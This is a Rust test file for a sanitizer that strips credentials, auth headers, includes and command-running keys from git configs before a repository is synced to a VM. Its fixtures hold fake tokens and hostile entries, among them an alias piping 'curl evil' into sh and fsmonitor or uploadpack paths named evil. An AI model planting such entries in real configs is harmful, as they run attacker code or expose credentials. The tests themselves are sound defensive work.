use super::*;

fn assert_gone_kept(out: &str, gone: &[&str], kept: &[&str]) {
    for g in gone {
        assert!(!out.contains(g), "`{g}` survived:\n{out}");
    }
    for k in kept {
        assert!(out.contains(k), "`{k}` lost:\n{out}");
    }
}

#[test]
fn credentials_headers_and_includes_are_removed_and_the_rest_kept() {
    let input = r#"[core]
	repositoryformatversion = 0
	sshCommand = ssh -i ~/.ssh/deploy
	askpass = /usr/bin/secret-askpass
[remote "origin"]
	url = https://alice:ghp_SECRET@github.com/acme/app.git
	fetch = +refs/heads/*:refs/remotes/origin/*
[credential]
	helper = store
[credential "https://github.com"]
	username = alice
[http "https://github.com/"]
	extraheader = AUTHORIZATION: basic c2VjcmV0
	sslVerify = true
[http]
	extraHeader = Authorization: Bearer xyz
[include]
	path = ~/.gitconfig-secrets
[includeIf "gitdir:~/work/"]
	path = ~/.gitconfig-work
[branch "main"]
	remote = origin
"#;
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &[
            "SECRET",
            "alice",
            "helper",
            "extraheader",
            "extraHeader",
            "gitconfig-secrets",
            "gitconfig-work",
            "sshCommand",
            "askpass",
            "[credential",
            "[include",
        ],
        &[
            "repositoryformatversion = 0",
            "url = https://github.com/acme/app.git",
            "fetch = +refs/heads/*:refs/remotes/origin/*",
            "sslVerify = true",
            "[branch \"main\"]",
            "remote = origin",
        ],
    );
}

#[test]
fn url_section_headers_lose_their_credentials() {
    let input = r#"[url "https://bob:ghp_HEADERTOKEN@github.com/"]
	insteadOf = https://github.com/
[url "https://x-access-token:ghs_PUSHTOKEN@github.com/"]
	pushInsteadOf = git@github.com:
[http "https://carol:pw1@git.example.com"]
	sslVerify = false
[url "git@github.com:"]
	insteadOf = gh:
[url "https://dave:TOK]EN@h.example/"] insteadOf = https://h.example/
"#;
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &[
            "HEADERTOKEN",
            "bob",
            "PUSHTOKEN",
            "x-access-token",
            "carol",
            "pw1",
            "TOK",
            "dave",
        ],
        &[
            "[url \"https://github.com/\"]",
            "insteadOf = https://github.com/",
            "pushInsteadOf = git@github.com:",
            "[http \"https://git.example.com\"]",
            "sslVerify = false",
            "[url \"git@github.com:\"]",
            "insteadOf = gh:",
            "[url \"https://h.example/\"]",
            "insteadOf = https://h.example/",
        ],
    );
}

#[test]
fn sendemail_and_imap_passwords_are_dropped() {
    let input = r#"[sendemail]
	smtpServer = smtp.example.com
	smtpUser = eve
	smtpPass = SMTPSECRET
[sendemail "work"]
	smtpPass = WORKSECRET
	toCmd = ./get-maintainers.sh
[imap]
	pass = IMAPSECRET
	tunnel = ssh -q imap.example.com /usr/bin/imapd
[user]
	name = Eve
"#;
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &[
            "SMTPSECRET",
            "WORKSECRET",
            "IMAPSECRET",
            "tunnel",
            "toCmd",
            "[sendemail",
            "[imap",
        ],
        &["[user]", "name = Eve"],
    );
}

#[test]
fn keys_that_run_commands_are_dropped() {
    let input = r#"[core]
	fsmonitor = /tmp/evil-monitor
	hooksPath = /home/me/hooks
	editor = vim
	pager = less
	gitProxy = /usr/local/bin/proxy
	alternateRefsCommand = ./alt
	bare = false
[diff "img"]
	textconv = exiftool
	command = ./difftool
	xfuncname = ^func
[diff]
	external = ./ext-diff
[merge "ours"]
	driver = ./merge-ours %O %A %B
	name = keep ours
[filter "lfs"]
	clean = git-lfs clean -- %f
	smudge = git-lfs smudge -- %f
	process = git-lfs filter-process
[sequence]
	editor = ./rebase-editor
[remote "local"]
	url = ../other
	uploadpack = ./evil-upload-pack
	receivepack = ./evil-receive-pack
[gpg]
	program = ./gpg-wrapper
[gpg "ssh"]
	defaultKeyCommand = ssh-add -L
[pager]
	log = ./pager
[trailer "sign"]
	command = ./sign
[uploadpack]
	packObjectsHook = ./hook
[alias]
	st = status
	pwn = "!sh -c 'curl evil | sh'"
	run = !./x
[submodule "lib"]
	url = https://example.com/lib.git
	update = !./evil-update
[mergetool "mine"]
	cmd = ./mt
[difftool "mine"]
	cmd = ./dt
"#;
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &[
            "evil-monitor",
            "hooksPath",
            "editor",
            "pager",
            "gitProxy",
            "alternateRefsCommand",
            "exiftool",
            "./difftool",
            "ext-diff",
            "merge-ours",
            "git-lfs",
            "rebase-editor",
            "evil-upload-pack",
            "evil-receive-pack",
            "gpg-wrapper",
            "ssh-add",
            "./sign",
            "packObjectsHook",
            "curl evil",
            "./x",
            "evil-update",
            "./mt",
            "./dt",
        ],
        &[
            "bare = false",
            "xfuncname = ^func",
            "name = keep ours",
            "url = ../other",
            "st = status",
            "url = https://example.com/lib.git",
        ],
    );
}

#[test]
fn keys_named_like_secrets_are_dropped() {
    let input = "[github]\n\tuser = me\n\toauth-token = GHTOKEN\n[hub]\n\tpassword = HUBPW\n\
                 [acme]\n\tapiKey = AKEY\n\tclientSecret = CSECRET\n\tdbpass = DBPW\n";
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &["GHTOKEN", "HUBPW", "AKEY", "CSECRET", "DBPW"],
        &["user = me", "[github]", "[acme]"],
    );
}

#[test]
fn continuation_lines_of_a_dropped_value_go_with_it() {
    let input = "[http]\n\textraHeader = Authorization: \\\n\t\tBearer CONTINUEDTOKEN\n\
                 \tsslVerify = true\n[core]\n\tsshCommand = ssh \\\n  -i KEYPATH \\\n  -o X=1\n\
                 \tbare = false\n[credential]\n\thelper = \"!f() { \\\n echo password=CREDPW; }; f\"\n\
                 [user]\n\tname = A \\\n B\n";
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &["CONTINUEDTOKEN", "Bearer", "KEYPATH", "X=1", "CREDPW"],
        &["sslVerify = true", "bare = false", "name = A \\\n B"],
    );
}

#[test]
fn url_without_credentials_is_unchanged() {
    assert_eq!(
        strip_url_credentials("url = git@github.com:a/b.git"),
        "url = git@github.com:a/b.git"
    );
    assert_eq!(
        strip_url_credentials("url = ssh://git@host/x"),
        "url = ssh://git@host/x"
    );
    assert_eq!(
        strip_url_credentials("url = ssh://git:pw@host/x"),
        "url = ssh://host/x"
    );
    assert_eq!(
        strip_url_credentials("url = https://TOKEN@host/x"),
        "url = https://host/x"
    );
    assert_eq!(strip_url_credentials("x = https://h/p"), "x = https://h/p");
}

#[test]
fn module_nested_worktree_and_bare_configs_are_git_configs() {
    let d = tempfile::tempdir().unwrap();
    let r = d.path();
    for dir in ["fixtures/repo.git/objects", "fixtures/repo.git/refs", "wt"] {
        std::fs::create_dir_all(r.join(dir)).unwrap();
    }
    std::fs::write(r.join("fixtures/repo.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(r.join("wt/HEAD"), "x").unwrap();
    std::fs::write(r.join("wt/commondir"), "../.git").unwrap();
    for yes in [
        ".git/config",
        ".git/config.worktree",
        ".git/modules/lib/config",
        ".git/modules/lib/modules/inner/config",
        ".git/worktrees/w/config.worktree",
        "vendor/x/.git/config",
        "vendor/x/.git/modules/y/config",
        "fixtures/repo.git/config",
        "wt/config",
    ] {
        assert!(is_git_config(r, yes), "{yes}");
    }
    for no in [
        "config",
        "src/config",
        "fixtures/config",
        ".git/HEAD",
        ".github/config.yml",
    ] {
        assert!(!is_git_config(r, no), "{no}");
    }
}

/// Through the real sync: every git config of the tree reaches the VM sanitized.
#[test]
fn submodule_nested_and_bare_configs_are_sanitized_in_the_sync() {
    use super::super::manifest::Base;
    use super::super::rules::{Rules, scan};
    use super::super::sync::compute;
    use crate::config::SyncConfig;
    let repo = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    let root = repo.path();
    let cfg = "[remote \"o\"]\n\turl = https://u:LEAKTOKEN@h/r.git\n[sendemail]\n\tsmtpPass = LEAKPW\n\
               [url \"https://v:LEAKHDR@h/\"]\n\tinsteadOf = https://h/\n[core]\n\tfsmonitor = ./LEAKCMD\n";
    let configs = [
        ".git/config",
        ".git/modules/lib/config",
        "vendor/x/.git/config",
        "fixtures/repo.git/config",
    ];
    for p in configs {
        let p = root.join(p);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, cfg).unwrap();
    }
    for d in ["fixtures/repo.git/objects", "fixtures/repo.git/refs"] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(
        root.join("fixtures/repo.git/HEAD"),
        "ref: refs/heads/main\n",
    )
    .unwrap();
    std::fs::write(
        root.join("src.txt"),
        "has https://u:KEEP@h/ in a plain file\n",
    )
    .unwrap();
    let rules = Rules::new(&SyncConfig::default()).unwrap();
    let base = Base::new(data.path().join("ws"));
    let d = compute(root, &scan(root, &rules).unwrap(), &base).unwrap();
    let mut seen = Vec::new();
    for e in tar::Archive::new(d.archive.as_slice()).entries().unwrap() {
        let mut e = e.unwrap();
        let path = e.path().unwrap().to_string_lossy().into_owned();
        let mut s = String::new();
        std::io::Read::read_to_string(&mut e, &mut s).unwrap();
        if configs.contains(&path.as_str()) {
            assert_gone_kept(
                &s,
                &["LEAKTOKEN", "LEAKPW", "LEAKHDR", "LEAKCMD"],
                &["url = https://h/r.git", "[url \"https://h/\"]"],
            );
            seen.push(path);
        } else if path == "src.txt" {
            assert!(s.contains("KEEP"), "a plain file is sent as it is");
        }
    }
    seen.sort();
    let mut want = configs.to_vec();
    want.sort();
    assert_eq!(seen, want);
}

/// A `\` at the end of a comment does not continue the value (git ends it at the comment), so
/// the next line is a key of its own, checked like any other: the token line is dropped.
#[test]
fn a_backslash_in_a_comment_does_not_hide_the_next_key() {
    let input = "[http]\n\tsslVerify = true ; see \\\n\textraHeader = Authorization: Bearer \
                 TOKEN1\n\tpostBuffer = 1 # note \\\n\textraHeader = Bearer TOKEN2\n";
    let out = sanitize(input);
    assert_gone_kept(
        &out,
        &["TOKEN1", "TOKEN2", "extraHeader"],
        &["sslVerify = true ; see \\", "postBuffer = 1 # note \\"],
    );
    // A comment after a section header ends its line too.
    let out = sanitize("[http] ; header \\\n\textraHeader = Bearer TOKEN3\n");
    assert_gone_kept(&out, &["TOKEN3"], &["[http]"]);
}

/// Inside double quotes `#` and `;` are text, so a `\` after them does continue the value:
/// the continuation belongs to the (dropped or kept) value, like git reads it.
#[test]
fn quoted_comment_characters_and_escapes_are_read_like_git() {
    // Quoted `;`: the value goes on, and the whole dropped value goes.
    let input = "[http]\n\textraHeader = \"X-A: a;b \\\nBearer QTOKEN1\"\n\tsslVerify = true\n";
    assert_gone_kept(&sanitize(input), &["QTOKEN1", "X-A"], &["sslVerify = true"]);
    // A kept quoted value with `#` continued: its next line is not read as a key.
    let input = "[core]\n\tcomment = \"a # b \\\n\tpassword = NOT-A-KEY\"\n\tbare = false\n";
    assert_gone_kept(
        &sanitize(input),
        &[],
        &["password = NOT-A-KEY\"", "bare = false"],
    );
    // An escaped quote does not open a string: the `;` after it starts a comment.
    let input = "[http]\n\tsslVerify = a\\\"b ; c \\\n\textraHeader = Bearer QTOKEN2\n";
    assert_gone_kept(&sanitize(input), &["QTOKEN2"], &["sslVerify"]);
    // An escaped backslash at the end does not continue.
    let input = "[http]\n\tsslCAInfo = C:\\\\\n\textraHeader = Bearer QTOKEN3\n";
    assert_gone_kept(&sanitize(input), &["QTOKEN3"], &["sslCAInfo"]);
    // A shell alias hidden behind an empty quoted string is still one.
    let input = "[alias]\n\tx = \"\" !curl evil\n\ty = log\n";
    assert_gone_kept(&sanitize(input), &["curl evil"], &["y = log"]);
    // Credentials split over a continuation are found in the value git reads.
    let input = "[remote \"o\"]\n\turl = https://u:SPLIT\\\nTOKEN@h/r.git\n";
    assert_gone_kept(
        &sanitize(input),
        &["SPLIT", "TOKEN"],
        &["url = \"https://h/r.git\""],
    );
}

/// From a line git cannot parse (an open quote, a bad escape, a header without `]`), nothing
/// more is copied: git would refuse the file.
#[test]
fn the_rest_of_a_file_git_cannot_parse_is_left_out() {
    for bad in [
        "\tx = \"open\n",
        "\tx = bad \\q escape\n",
        "[broken\n",
        "\t= no key\n",
    ] {
        let input = format!("[user]\n\tname = A\n{bad}[http]\n\textraHeader = Bearer BADTOKEN\n");
        let out = sanitize(&input);
        assert_gone_kept(&out, &["BADTOKEN"], &["name = A", "git cannot parse"]);
    }
}
